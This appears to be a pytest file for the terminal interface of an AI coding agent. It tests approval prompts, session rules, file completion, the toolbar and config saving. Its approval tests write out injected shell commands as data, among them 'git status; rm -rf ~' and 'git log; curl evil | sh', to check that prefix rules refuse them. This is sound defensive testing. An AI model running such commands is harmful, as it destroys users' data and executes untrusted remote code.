"""The pieces of the terminal UI without a terminal: approvals and session rules, completion and
`@file` attachments, the toolbar and settings (the turn view and slash commands: test_ui_session.py)."""

from __future__ import annotations

import asyncio
import io
import subprocess
import sys
import time
import tomllib
from pathlib import Path
from typing import Any

import pytest
from prompt_toolkit.completion import CompleteEvent
from prompt_toolkit.document import Document
from rich.console import Console

from kimicode.agent.core import Approval, ApprovalRequest
from kimicode.config.ui import UISettings
from kimicode.events import (
    ContextUpdated,
    UsageUpdated,
)
from kimicode.ui.approvals import (
    Approver,
    Option,
    SessionRules,
    edit_preview,
    has_shell_operators,
    options_for,
    prefix_matches,
    prefix_problem,
    suggest_prefix,
)
from kimicode.ui.completion import CommandInfo, FileIndex, PromptCompleter, expand_mentions, list_files
from kimicode.ui.format import describe_call, human_bytes, money, tokens
from kimicode.ui.toolbar import GitBranch, McpStatus, Stats, toolbar_fragments


@pytest.mark.prepush
def test_headless_imports_no_ui() -> None:
    code = (
        "import sys, kimicode, kimicode.cli.app, kimicode.cli.headless, kimicode.agent.core\n"
        "loaded = [m for m in sys.modules if m.startswith(('kimicode.ui', 'prompt_toolkit'))]\n"
        "assert not loaded, loaded\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


# -- approvals ------------------------------------------------------------------------------------


def bash_request(command: str) -> ApprovalRequest:
    return ApprovalRequest("call-1", "bash", "execute", {"command": command}, "bash runs commands")


def edit_request(ws: Path, args: dict[str, Any], tool: str = "edit_file") -> ApprovalRequest:
    return ApprovalRequest("call-2", tool, "edit", args, "changes files", str((ws / args["path"]).resolve()))


def test_prefix_rules_never_match_chained_or_longer_words() -> None:
    assert prefix_matches("git status", "git status")
    assert prefix_matches("git status", "git status --short")
    assert not prefix_matches("git status", "git statusx")
    for evil in (
        "git status; rm -rf ~",
        "git status && rm x",
        "git status | sh",
        "git status $(rm x)",
        "git status `rm x`",
        "git status > /etc/passwd",
        "git status\nrm x",
    ):
        assert has_shell_operators(evil)
        assert not prefix_matches("git status", evil)
    assert prefix_problem("") is not None and prefix_problem("  ") is not None
    assert prefix_problem("ls; rm") is not None
    assert prefix_problem("npm", "git status") == "the command does not start with 'npm'"
    assert prefix_problem("git", "git status") is None


def test_suggested_prefixes() -> None:
    assert suggest_prefix("git status --short") == "git status"
    assert suggest_prefix("pytest -q tests") == "pytest"
    assert suggest_prefix("python -m pytest -x") == "python -m pytest"
    assert suggest_prefix("npm --version") == "npm"


def test_session_rules_are_narrow(tmp_path: Path) -> None:
    rules = SessionRules(commands={"make test"}, prefixes={"git log"}, files={str(tmp_path / "a.py")})
    assert rules.match(bash_request("make test"))
    assert not rules.match(bash_request("make test2"))
    assert not rules.match(bash_request("make"))
    assert rules.match(bash_request("git log -3"))
    assert not rules.match(bash_request("git log; curl evil | sh"))
    assert rules.match(edit_request(tmp_path, {"path": "a.py"}))
    assert not rules.match(edit_request(tmp_path, {"path": "b.py"}))
    # no rule allows everything
    assert not SessionRules().match(bash_request("ls"))


def run_approver(
    ws: Path,
    request: ApprovalRequest,
    answers: list[str | None],
    texts: list[str | None],
    rules: SessionRules | None = None,
) -> tuple[Approval, str, list[str]]:
    out = io.StringIO()
    console = Console(file=out, width=100, color_system=None)
    asked: list[str] = []
    interrupted: list[bool] = []

    async def choose(question: str, options: list[Option]) -> str | None:
        asked.append(question + " | " + ",".join(o.value for o in options))
        return answers.pop(0)

    async def ask(message: str, default: str) -> str | None:
        asked.append(f"{message.strip()} [{default}]")
        return texts.pop(0)

    approver = Approver(
        console, ws, rules or SessionRules(), choose_fn=choose, ask_fn=ask, interrupt=lambda: interrupted.append(True)
    )

    async def go() -> Approval:
        result = await approver(request)
        await asyncio.sleep(0)  # let a scheduled interrupt run
        return result

    result = asyncio.run(go())
    if interrupted:
        asked.append("INTERRUPTED")
    return result, out.getvalue(), asked


def test_approver_answers(tmp_path: Path) -> None:
    ok, shown, _ = run_approver(tmp_path, bash_request("pytest -q"), ["once"], [])
    assert ok == Approval(True)
    assert "pytest -q" in shown and "allowed once" in shown

    rules = SessionRules()
    ok, _, _ = run_approver(tmp_path, bash_request("pytest -q"), ["command"], [], rules)
    assert ok.approved and rules.commands == {"pytest -q"}

    # a prefix that does not fit is refused and asked again, with what was typed as the new default
    rules = SessionRules()
    ok, shown, asked = run_approver(tmp_path, bash_request("git diff HEAD"), ["prefix"], ["npm", "git diff"], rules)
    assert ok.approved and rules.prefixes == {"git diff"}
    assert "does not start with 'npm'" in shown
    assert asked[1].endswith("[git diff]") and asked[2].endswith("[npm]")

    # cancelling the prefix goes back to the menu
    ok, _, asked = run_approver(tmp_path, bash_request("ls -la"), ["prefix", "no"], [None, "not now"])
    assert ok == Approval(False, "not now")
    assert len([a for a in asked if "Run this command?" in a]) == 2

    ok, shown, _ = run_approver(tmp_path, bash_request("rm -rf build"), [None], [])
    assert ok == Approval(False, "")  # Esc: no, without asking for a reason
    assert "not allowed" in shown

    ok, _, asked = run_approver(tmp_path, bash_request("sleep 100"), ["interrupt"], [])
    assert not ok.approved and asked[-1] == "INTERRUPTED"

    # already allowed: no question at all
    ok, shown, asked = run_approver(tmp_path, bash_request("make"), [], [], SessionRules(commands={"make"}))
    assert ok.approved and asked == [] and shown == ""


def test_concurrent_approvals_are_asked_one_at_a_time(tmp_path: Path) -> None:
    """Subagents share the approver: their questions queue, and a session rule answers the waiting ones."""
    console = Console(file=io.StringIO(), width=100, color_system=None, force_terminal=False)
    screen: list[str] = []
    on_screen = 0
    most = 0

    async def choose(question: str, options: list[Option]) -> str | None:
        nonlocal on_screen, most
        on_screen += 1
        most = max(most, on_screen)
        await asyncio.sleep(0.05)
        on_screen -= 1
        return "command"

    approver = Approver(
        console,
        tmp_path,
        SessionRules(),
        suspend=lambda: screen.append("suspend"),
        resume=lambda: screen.append("resume"),
        choose_fn=choose,
    )

    async def ask_together() -> list[Approval]:
        return list(
            await asyncio.gather(
                approver(bash_request("make test")), approver(bash_request("make test")), approver(bash_request("ls"))
            )
        )

    results = asyncio.run(ask_together())
    assert all(r.approved for r in results)
    assert most == 1  # never two questions on the terminal at once
    assert screen == ["suspend", "resume", "suspend", "resume"]  # the second "make test" was not asked
    assert approver.rules.commands == {"make test", "ls"}


def test_options_depend_on_the_request(tmp_path: Path) -> None:
    assert [o.value for o in options_for(bash_request("ls"))] == ["once", "command", "prefix", "no"]
    assert [o.value for o in options_for(bash_request("ls | wc"))] == ["once", "command", "no"]
    assert [o.value for o in options_for(edit_request(tmp_path, {"path": "x"}))] == ["once", "file", "no"]


def previewed(ws: Path, args: dict[str, Any], tool: str = "edit_file") -> ApprovalRequest:
    """An edit request carrying the tool's own preview, as the agent builds it."""
    from kimicode.tools.base import ToolContext, ToolError
    from kimicode.tools.files import EDIT_FILE, WRITE_FILE

    fn = {"edit_file": EDIT_FILE, "write_file": WRITE_FILE}[tool].preview
    assert fn is not None
    try:
        diff, problem = fn(args, ToolContext(ws)), None
    except ToolError as exc:
        diff, problem = None, str(exc)
    return ApprovalRequest("call-2", tool, "edit", args, "changes files", str((ws / args["path"]).resolve()),
                           diff, problem)  # fmt: skip


def test_edit_previews_render_the_tools_own_diff(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("one\ntwo\nthree\n")
    diff, note = edit_preview(previewed(tmp_path, {"path": "a.py", "old_string": "two", "new_string": "2"}), tmp_path)
    assert "-two\n+2\n" in diff and " one\n" in diff and note == ""
    diff, note = edit_preview(previewed(tmp_path, {"path": "new.py", "content": "x = 1\n"}, "write_file"), tmp_path)
    assert "+x = 1" in diff and note == "new file"
    diff, note = edit_preview(previewed(tmp_path, {"path": "a.py", "old_string": "zzz", "new_string": "y"}), tmp_path)
    assert diff == "" and "would fail" in note and "not found" in note
    (tmp_path / "b.py").write_text("x\nx\n")
    _, note = edit_preview(previewed(tmp_path, {"path": "b.py", "old_string": "x", "new_string": "y"}), tmp_path)
    assert "matches 2 times" in note
    same = previewed(tmp_path, {"path": "a.py", "content": "one\ntwo\nthree\n"}, "write_file")
    _, note = edit_preview(same, tmp_path)
    assert note == "no change"
    _, note = edit_preview(edit_request(tmp_path, {"path": "c.py", "data": 1}), tmp_path)  # no preview: arguments
    assert '"data": 1' in note


# -- completion and attachments -------------------------------------------------------------------


def make_tree(root: Path) -> None:
    (root / "src" / "pkg").mkdir(parents=True)
    (root / "src" / "pkg" / "app.py").write_text("print('app')\n")
    (root / "src" / "main.py").write_text("main\n")
    (root / "README.md").write_text("# readme\n")
    (root / ".gitignore").write_text("build/\n*.log\n")
    (root / "build").mkdir()
    (root / "build" / "out.py").write_text("generated\n")
    (root / "debug.log").write_text("log\n")


def test_list_files_respects_gitignore(tmp_path: Path) -> None:
    make_tree(tmp_path)
    files = list_files(tmp_path)
    assert files == ["README.md", "src/main.py", "src/pkg/app.py"]


def test_list_files_without_ripgrep(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    make_tree(tmp_path)
    monkeypatch.setenv("KIMICODE_NO_RIPGREP", "1")
    assert list_files(tmp_path) == ["README.md", "src/main.py", "src/pkg/app.py"]


def test_index_search_ranks_names_first(tmp_path: Path) -> None:
    make_tree(tmp_path)
    index = FileIndex(tmp_path)
    index.refresh()
    assert index.wait(10)
    assert index.search("app")[0] == "src/pkg/app.py"
    assert index.search("main") == ["src/main.py"]
    assert "src/" in index.search("src")
    assert index.search("spa") == ["src/pkg/app.py"]  # subsequence fallback
    assert index.search("") == ["README.md", "src/"]


def test_index_is_fast_on_100k_files(tmp_path: Path) -> None:
    paths = [f"dir{i % 300}/sub{i % 17}/file_{i}.py" for i in range(100_000)]
    index = FileIndex(tmp_path, lister=lambda _root: paths)
    index.refresh()
    assert index.wait(30)
    start = time.perf_counter()
    found = index.search("file_4242")
    elapsed = time.perf_counter() - start
    assert found[0] == "dir42/sub9/file_4242.py"
    assert elapsed < 1.0, elapsed


def completions(completer: PromptCompleter, text: str) -> list[str]:
    return [c.text for c in completer.get_completions(Document(text), CompleteEvent(completion_requested=True))]


def test_completer_for_commands_arguments_and_paths(tmp_path: Path) -> None:
    make_tree(tmp_path)
    (tmp_path / "my notes.txt").write_text("n\n")
    index = FileIndex(tmp_path)
    index.refresh()
    assert index.wait(10)
    cmds = {
        "help": CommandInfo("help", "show help"),
        "reasoning": CommandInfo("reasoning", "reasoning", lambda: ("show", "hide")),
    }
    completer = PromptCompleter(lambda: cmds, index)
    assert completions(completer, "/he") == ["/help"]
    assert completions(completer, "/reasoning h") == ["hide"]
    assert completions(completer, "look at @pkg/ap") == ["@src/pkg/app.py"]
    assert completions(completer, "@notes") == ['@"my notes.txt"']
    assert completions(completer, "email me@host") == []
    assert completions(completer, "plain words") == []


def test_mentions_attach_files(tmp_path: Path) -> None:
    make_tree(tmp_path)
    (tmp_path / "blob.bin").write_bytes(b"\x00\x01binary")
    (tmp_path / "big.txt").write_text("x" * 500)
    text, attached = expand_mentions("see @src/main.py, and @nothing/here and a@b.c", tmp_path, 1000)
    assert [a.path for a in attached] == ["src/main.py"]
    assert text.startswith("see @src/main.py, and @nothing/here and a@b.c\n\n")
    assert '<file path="src/main.py">\nmain\n</file>' in text
    text, attached = expand_mentions("@blob.bin @big.txt", tmp_path, 100)
    assert "[binary file: not attached]" in text
    assert "more characters not attached" in text and attached[1].note.startswith("cut to")
    text, attached = expand_mentions('@"src/pkg"', tmp_path, 1000)
    assert '<directory path="src/pkg">\napp.py\n</directory>' in text
    assert expand_mentions("no mentions", tmp_path, 10) == ("no mentions", [])


# -- toolbar and settings -------------------------------------------------------------------------


def test_git_branch_follows_head(tmp_path: Path) -> None:
    git = tmp_path / ".git"
    git.mkdir()
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    sub = tmp_path / "a" / "b"
    sub.mkdir(parents=True)
    branch = GitBranch(sub)
    assert branch.get() == "main"
    (git / "HEAD").write_text("ref: refs/heads/feature/long-name\n")
    assert branch.get() == "feature/long-name"
    (git / "HEAD").write_text("0123456789abcdef0123456789abcdef01234567\n")
    assert branch.get() == "01234567"
    # a linked worktree: `.git` is a file pointing at the real git directory
    wt = tmp_path / "worktree"
    wt.mkdir()
    real = tmp_path / "gitdirs" / "wt"
    real.mkdir(parents=True)
    (real / "HEAD").write_text("ref: refs/heads/topic\n")
    (wt / ".git").write_text(f"gitdir: {real}\n")
    assert GitBranch(wt).get() == "topic"


def test_toolbar_fragments() -> None:
    stats = Stats()
    text = "".join(
        t
        for _, t in toolbar_fragments(
            model="kimi-k3",
            effort="high",
            stats=stats,
            window=1_048_576,
            estimate=3000,
            mode="default",
            workspace=Path("/w"),
            branch="dev",
        )
    )
    assert "ctx ~3.0k/1.0M (0%)" in text and "⏵ default" in text and "⎇ dev" in text and "cached" not in text
    stats.update(UsageUpdated(200_000, 10, 150_000, 200_000, 10, 150_000))
    stats.update(ContextUpdated(900_000, 1_048_576, 150_000))
    frags = toolbar_fragments(
        model="kimi-k3",
        effort=None,
        stats=stats,
        window=1_048_576,
        estimate=3000,
        mode="yolo",
        workspace=Path("/w"),
        branch=None,
    )
    text = "".join(t for _, t in frags)
    assert "ctx 900k/1.0M (86%)" in text and "cached 75%" in text and "⏵ yolo" in text
    assert ("class:toolbar.warn", "ctx 900k/1.0M (86%)") in frags
    assert "$" not in text and "mcp" not in text  # no prices, no servers: nothing shown


def test_toolbar_shows_cost_mcp_servers_and_plan_mode() -> None:
    def frags(**kw: Any) -> list[tuple[str, str]]:
        base: dict[str, Any] = dict(
            model="kimi-k3", effort=None, stats=Stats(), window=1000, estimate=10, mode="plan",
            workspace=Path("/w"), branch=None,
        )  # fmt: skip
        return toolbar_fragments(**{**base, **kw})

    shown = frags(cost=0.0042, mcp=McpStatus(ready=1, failed=1, total=2))
    assert ("", "$0.0042") in shown and ("class:toolbar.warn", "mcp 1/2") in shown
    assert ("class:toolbar.plan", "⏵ plan") in shown
    assert ("class:toolbar.dim", "mcp 0/2…") in frags(mcp=McpStatus(0, 0, 2))  # still starting
    assert ("", "mcp 2/2") in frags(mcp=McpStatus(2, 0, 2))
    assert money(0.0042) == "$0.0042" and money(0.115) == "$0.115" and money(12.5) == "$12.50"
    assert human_bytes(500) == "500 B" and human_bytes(12_000) == "12 KB" and human_bytes(3_500_000) == "3.3 MB"


def test_settings_roundtrip_and_bad_files(tmp_path: Path) -> None:
    assert UISettings.load(tmp_path).show_reasoning is True
    assert UISettings(show_reasoning=False).save(tmp_path) is None
    assert UISettings.load(tmp_path).show_reasoning is False
    assert (tmp_path / "config.toml").read_text() == '[ui]\nreasoning = "hide"\n'
    assert not (tmp_path / "ui.json").exists()
    (tmp_path / "config.toml").unlink()
    (tmp_path / "ui.json").write_text("{not json")
    assert UISettings.load(tmp_path).show_reasoning is True
    (tmp_path / "ui.json").write_text('{"show_reasoning": "no"}')
    assert UISettings.load(tmp_path).show_reasoning is True
    blocker = tmp_path / "file"
    blocker.write_text("")
    assert UISettings().save(blocker / "sub") is not None  # an error message, not an exception


def test_ui_preferences_move_from_ui_json_into_config_toml(tmp_path: Path) -> None:
    (tmp_path / "ui.json").write_text('{"show_reasoning": false}')
    assert UISettings.load(tmp_path).show_reasoning is False  # the old file still counts
    assert UISettings(show_reasoning=False).save(tmp_path) is None
    assert not (tmp_path / "ui.json").exists()
    assert UISettings.load(tmp_path).show_reasoning is False
    (tmp_path / "ui.json").write_text('{"show_reasoning": true}')  # config.toml wins over a stale ui.json
    assert UISettings.load(tmp_path).show_reasoning is False


def test_saving_a_preference_edits_one_line_of_the_users_config(tmp_path: Path) -> None:
    import os
    import stat

    from kimicode.config.settings import load_settings

    config = tmp_path / "config.toml"
    text = (
        '# my settings\r\n[auth]\r\napi_key = "sk-secret"  # keep me\r\n\r\n[ui]  # look\r\n'
        'reasoning = "show"\r\n\r\n[defaults]\r\nmodel = "kimi-k3"\r\n'
    )
    config.write_bytes(text.encode())
    os.chmod(config, 0o600)
    assert UISettings(show_reasoning=False).save(tmp_path) is None
    assert config.read_bytes() == text.replace('reasoning = "show"', 'reasoning = "hide"').encode()
    assert stat.S_IMODE(config.stat().st_mode) == 0o600  # it holds the key
    assert load_settings(tmp_path, tmp_path).get("ui.reasoning") == "hide"
    # a [ui] table without the key gets the line right under its header
    config.write_text("[ui]\n[context]\nprune_threshold = 0.6\n")
    assert UISettings(show_reasoning=False).save(tmp_path) is None
    assert tomllib.loads(config.read_text()) == {"ui": {"reasoning": "hide"}, "context": {"prune_threshold": 0.6}}
    # a linked config.toml stays linked; the file it points to is edited
    real = tmp_path / "dotfiles.toml"
    real.write_text('[defaults]\nthinking = "high"\n')
    config.unlink()
    config.symlink_to(real)
    assert UISettings(show_reasoning=True).save(tmp_path) is None
    assert config.is_symlink() and 'reasoning = "show"' in real.read_text()


@pytest.mark.parametrize("text", ["[ui\nreasoning = ", 'ui = { reasoning = "show" }\n', 'ui.reasoning = "show"\n'])
def test_a_config_kimicode_cannot_edit_safely_is_left_alone(tmp_path: Path, text: str) -> None:
    config = tmp_path / "config.toml"
    config.write_text(text)
    error = UISettings(show_reasoning=False).save(tmp_path)
    assert error is not None and "config.toml" in error and 'reasoning = "hide"' in error
    assert config.read_text() == text


def test_formatting_helpers() -> None:
    assert tokens(999) == "999" and tokens(12_345) == "12.3k" and tokens(262_144) == "262k"
    assert describe_call("read_file", {"path": "src/app.py", "offset": 1, "limit": 200}) == "read_file src/app.py:1-200"
    assert describe_call("bash", {"command": "pytest -q\nmore"}) == "bash: pytest -q …"
    assert describe_call("write_file", {"path": "a", "content": "x\ny\n"}) == "write_file a (2 lines)"
    assert describe_call("grep", {"pattern": "TODO", "path": "src"}) == "grep TODO in src"
    assert describe_call("custom", {"k": 1}) == 'custom {"k": 1}'
    assert describe_call("todo_write", {"todos": [{}, {}]}) == "todo_write (2 tasks)"
    assert describe_call("task", {"description": "explore", "prompt": "..."}) == "task: explore"
